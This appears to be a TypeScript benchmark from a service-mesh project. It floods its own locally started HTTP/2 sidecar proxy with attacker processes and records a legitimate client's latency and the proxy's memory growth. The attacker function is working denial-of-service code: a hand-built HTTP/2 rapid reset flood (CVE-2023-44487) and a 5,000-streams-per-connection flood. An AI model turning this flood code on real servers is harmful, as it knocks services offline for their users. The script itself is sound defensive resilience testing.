/**
 * HTTP/2 abuse against one sidecar (issue 9): a legitimate client's latency and the proxy's RSS
 * while attackers flood its inbound listener. Not a test: the figures depend on the machine.
 *
 *   npm run bench:h2-abuse -- [--seconds 10] [--attackers 2]
 *
 * Starts an HTTP/1 app and a `hexmesh proxy` in front of it, then runs three phases of
 * `seconds` each while one legitimate HTTP/2 client sends sequential GETs through the sidecar
 * on its own connection:
 *   - baseline: no attack;
 *   - rapid reset (CVE-2023-44487): each attacker process opens connections and writes HEADERS +
 *     RST_STREAM pairs as fast as the socket takes them, reconnecting when the proxy closes it;
 *   - 5,000 streams on one connection: each attacker opens a connection, writes 5,000 HEADERS
 *     (complete GET requests) in one go and reads what comes back, again and again.
 * Prints the client's p50/p99/max and errors per phase and the proxy's RSS (start, peak from
 * VmHWM, growth). Goals (issue 9): growth ≤ 50 MiB and p99 < 50 ms during the attacks.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parseArgs } from 'node:util';
import { exitOnHelp, intFlag, numberFlag } from './lib/cli-flags.ts';
import { rssKiB } from './lib/proc-stats.ts';
import { percentile } from './lib/stats.ts';

const USAGE = `usage: npm run bench:h2-abuse -- [--seconds 10] [--attackers 2]`;
const BIN = resolve(import.meta.dirname, '..', 'bin', 'hexmesh.js');

// ---------- frames (as test/support/raw.ts, kept here so the attacker has no test imports) ----------

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(id & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK literals without indexing, lengths < 127, no Huffman. */
function block(fields: [string, string][]): Buffer {
  return Buffer.concat(
    fields.flatMap(([n, v]) => [
      Buffer.from([0, n.length]),
      Buffer.from(n),
      Buffer.from([v.length]),
      Buffer.from(v),
    ]),
  );
}

const GET = block([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':authority', 'victim'],
  [':path', '/attack'],
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

// ---------- attacker process ----------

async function attacker(kind: string, port: number, seconds: number): Promise<void> {
  const end = Date.now() + seconds * 1000;
  let streams = 0;
  let connections = 0;
  while (Date.now() < end) {
    connections++;
    await new Promise<void>((done) => {
      const s = net.connect(port, '127.0.0.1');
      s.on('error', () => {});
      s.on('data', () => {});
      s.on('close', () => done());
      const stop = setTimeout(() => s.destroy(), Math.max(0, Math.min(2000, end - Date.now())));
      stop.unref();
      s.once('connect', () => {
        s.write(Buffer.concat([PREFACE, frame(4, 0, 0)]));
        let id = 1;
        if (kind === 'streams') {
          const all: Buffer[] = [];
          for (let i = 0; i < 5000; i++, id += 2) all.push(frame(1, 0x5, id, GET));
          streams += 5000;
          s.write(Buffer.concat(all));
          return;
        }
        // Rapid reset: 100 HEADERS + RST_STREAM pairs per write, as fast as the socket drains.
        const pump = () => {
          while (!s.destroyed && Date.now() < end) {
            const batch: Buffer[] = [];
            for (let i = 0; i < 100; i++, id += 2)
              batch.push(frame(1, 0x5, id, GET), frame(3, 0, id, CANCEL));
            streams += 100;
            if (id > 0x7fff0000) return void s.destroy();
            if (!s.write(Buffer.concat(batch))) return void s.once('drain', pump);
          }
          s.destroy();
        };
        pump();
      });
    });
  }
  process.send?.({ streams, connections });
}

// ---------- orchestrator ----------

interface Phase {
  name: string;
  latencies: number[];
  errors: number;
  rssStartKiB: number;
  rssPeakKiB: number;
  attack: { streams: number; connections: number };
}

function hwmKiB(pid: number): number {
  const line = readFileSync(`/proc/${pid}/status`, 'utf8')
    .split('\n')
    .find((l) => l.startsWith('VmHWM:'));
  return Number(line?.split(/\s+/)[1] ?? 0);
}

/** Reset the kernel's peak-RSS mark of `pid` to its current RSS (writing 5 to clear_refs). */
function resetHwm(pid: number): void {
  try {
    writeFileSync(`/proc/${pid}/clear_refs`, '5');
  } catch {
    // Not permitted: peaks then include earlier phases.
  }
}

async function legitLoop(port: number, until: number, out: Phase): Promise<void> {
  const session = http2.connect(`http://127.0.0.1:${port}`);
  session.on('error', () => {});
  try {
    while (Date.now() < until) {
      const t0 = performance.now();
      try {
        await new Promise<void>((ok, fail) => {
          const s = session.request({ ':path': '/legit', ':authority': 'victim' });
          const timer = setTimeout(() => fail(new Error('timeout')), 5000);
          s.on('response', (h) => {
            if (h[':status'] !== 200) fail(new Error(`status ${h[':status']}`));
          });
          s.on('error', fail);
          s.resume();
          s.on('end', () => {
            clearTimeout(timer);
            ok();
          });
        });
        out.latencies.push(performance.now() - t0);
      } catch {
        out.errors++;
        if (session.destroyed || session.closed) return legitLoop(port, until, out);
      }
    }
  } finally {
    session.destroy();
  }
}

async function runPhase(
  name: string,
  kind: string | null,
  proxyPid: number,
  port: number,
  seconds: number,
  attackers: number,
): Promise<Phase> {
  resetHwm(proxyPid);
  const phase: Phase = {
    name,
    latencies: [],
    errors: 0,
    rssStartKiB: rssKiB(proxyPid),
    rssPeakKiB: 0,
    attack: { streams: 0, connections: 0 },
  };
  const kids: ChildProcess[] = [];
  const reports: Promise<void>[] = [];
  if (kind)
    for (let i = 0; i < attackers; i++) {
      const child = spawn(
        process.execPath,
        [
          '--import',
          'tsx',
          import.meta.filename,
          '--attacker',
          kind,
          '--port',
          String(port),
          '--seconds',
          String(seconds),
        ],
        { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] },
      );
      kids.push(child);
      reports.push(
        new Promise((r) => {
          child.on('message', (m: { streams: number; connections: number }) => {
            phase.attack.streams += m.streams;
            phase.attack.connections += m.connections;
          });
          child.on('exit', () => r());
        }),
      );
    }
  // Let the attackers start before measuring.
  if (kind) await new Promise((r) => setTimeout(r, 500));
  await legitLoop(port, Date.now() + seconds * 1000, phase);
  // The attackers stop on their own clock and report; kill any that lingers.
  const late = setTimeout(() => {
    for (const k of kids) if (k.exitCode === null) k.kill('SIGKILL');
  }, 5000);
  await Promise.all(reports);
  clearTimeout(late);
  phase.rssPeakKiB = hwmKiB(proxyPid);
  return phase;
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      seconds: { type: 'string' },
      attackers: { type: 'string' },
      attacker: { type: 'string' },
      port: { type: 'string' },
      help: { type: 'boolean' },
    },
  });
  exitOnHelp(values.help, USAGE);
  const seconds = numberFlag('seconds', values.seconds, 10, 1);
  if (values.attacker) return attacker(values.attacker, intFlag('port', values.port, 0, 1), seconds);
  const attackers = intFlag('attackers', values.attackers, 2, 1);

  const dir = mkdtempSync(join(tmpdir(), 'hexmesh-h2-abuse-'));
  const app = spawn(
    process.execPath,
    [
      '-e',
      `require('node:http').createServer((q, s) => { q.resume(); q.on('end', () => s.end('ok')); })
        .listen(0, '127.0.0.1', function () { console.log(this.address().port); });`,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  const appPort = Number(
    await new Promise<string>((r) => app.stdout!.once('data', (d: Buffer) => r(String(d)))),
  );
  const any = { address: '127.0.0.1', port: 0 };
  writeFileSync(
    join(dir, 'proxy.json'),
    JSON.stringify({
      proxy: { service: 'victim', inbound: any, outbound: any, admin: any, app: { port: appPort } },
    }),
  );
  const proxy = spawn(process.execPath, [BIN, 'proxy', '--config', join(dir, 'proxy.json')], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let out = '';
  const inbound = await new Promise<number>((r, fail) => {
    proxy.stdout!.on('data', (d: Buffer) => {
      out += d;
      const m = /inbound=[^:\s]+:(\d+)/.exec(out);
      if (m) r(Number(m[1]));
    });
    proxy.once('exit', () => fail(new Error(`proxy exited: ${out}`)));
  });
  try {
    // Warm up the path (JIT, upstream connection) before the baseline.
    await legitLoop(inbound, Date.now() + 1000, {
      name: 'warm-up',
      latencies: [],
      errors: 0,
      rssStartKiB: 0,
      rssPeakKiB: 0,
      attack: { streams: 0, connections: 0 },
    });
    const phases = [
      await runPhase('baseline', null, proxy.pid!, inbound, seconds, attackers),
      await runPhase('rapid reset', 'reset', proxy.pid!, inbound, seconds, attackers),
      await runPhase('5,000 streams/connection', 'streams', proxy.pid!, inbound, seconds, attackers),
    ];
    const alive = proxy.exitCode === null;
    console.log(
      `\nh2 abuse against one sidecar: ${seconds} s per phase, ${attackers} attacker process(es); proxy ${alive ? 'alive' : 'DIED'}\n`,
    );
    const rows = phases.map((p) => {
      const sorted = Float64Array.from(p.latencies).sort();
      const mib = (k: number) => (k / 1024).toFixed(0);
      return {
        phase: p.name,
        'attack streams': p.attack.streams,
        'attack conns': p.attack.connections,
        'legit reqs': p.latencies.length,
        errors: p.errors,
        'p50 ms': percentile(sorted, 0.5).toFixed(2),
        'p99 ms': percentile(sorted, 0.99).toFixed(2),
        'max ms': (sorted[sorted.length - 1] ?? 0).toFixed(1),
        'RSS start MiB': mib(p.rssStartKiB),
        'RSS peak MiB': mib(p.rssPeakKiB),
        'growth MiB': mib(Math.max(0, p.rssPeakKiB - p.rssStartKiB)),
      };
    });
    console.table(rows);
  } finally {
    proxy.kill('SIGKILL');
    app.kill('SIGKILL');
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
